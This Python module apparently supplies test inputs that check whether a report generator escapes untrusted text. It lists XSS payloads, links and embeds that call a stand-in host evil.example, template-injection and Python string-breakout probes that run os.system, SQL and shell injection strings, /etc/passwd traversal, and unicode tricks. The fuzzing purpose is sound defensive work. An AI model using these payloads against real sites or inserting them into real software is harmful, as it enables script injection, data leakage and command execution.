"""Texts that do harm where a report takes them for markup, code, a template or a path."""

from __future__ import annotations

TARGET = "http://evil.example/x"

PAYLOADS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>", f'<img src="{TARGET}">', "<svg onload=alert(1)>", "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</text></g></svg><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>', "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "--><script>alert(1)</script>",
    "<!--", "<![CDATA[<script>alert(1)</script>]]>", "<iframe src=javascript:alert(1)>", f"<iframe src={TARGET}>",
    "<a href=javascript:alert(1)>x</a>", f'<a href="{TARGET}">x</a>', f"<base href={TARGET}>", f"<link rel=stylesheet href={TARGET}>",
    f"<meta http-equiv=refresh content='0;url={TARGET}'>", f"<form action={TARGET}><input type=submit>", "<math><mi//xlink:href='x'>",
    f"<object data={TARGET}>", f"<embed src={TARGET}>", "<details open ontoggle=alert(1)>", f"<style>@import '{TARGET}';</style>",
    f"<video poster={TARGET}>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    f"![x]({TARGET})", f"[x]({TARGET})", "[x](javascript:alert(1))", f"![x][r]\n\n[r]: {TARGET}", f"<{TARGET}>", TARGET,
    "www.evil.example/x", "x@evil.example", "mailto:x@evil.example", f"| a | ![x]({TARGET}) |", f"`code` ![x]({TARGET})",
    f"\\![x]({TARGET})", f"# heading\n\n![x]({TARGET})", "```\n<script>alert(1)</script>\n```", "$\\href{http://evil.example}{x}$",
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "'''\nimport os; os.system('touch pwned')\n'''", '"""\nraise SystemExit(99)\n"""', "\\'''\nraise SystemExit(99)\n#", "\\", "\\\\'''",
    "\\u0027''",
    "')\nraise SystemExit(99)\n(r'", "\n'''\n)\nopen('pwned','w')\n", "\\N{APOSTROPHE}'''",
    "'; DROP TABLE x; --", "$(touch pwned)", "`touch pwned`",
    'x"]; y -> z [label="', "digraph { a -> b }", "a\nb\r\nc\u2028d\u2029e", "\u202egpj.exe", "\u2066x\u2069", "a\u200bb",
    "\ud800", "a\udfffb", "a\x00b\x1b[31mred",
    "📈👩\u200d👩\u200d👧", "Z͑ͫ̓a̴l͍go", "x" * 10_000, "<b>" * 300, "../../../etc/passwd", "/etc/passwd", "%s %(x)s {0}", "__import__('os')",
)  # fmt: skip
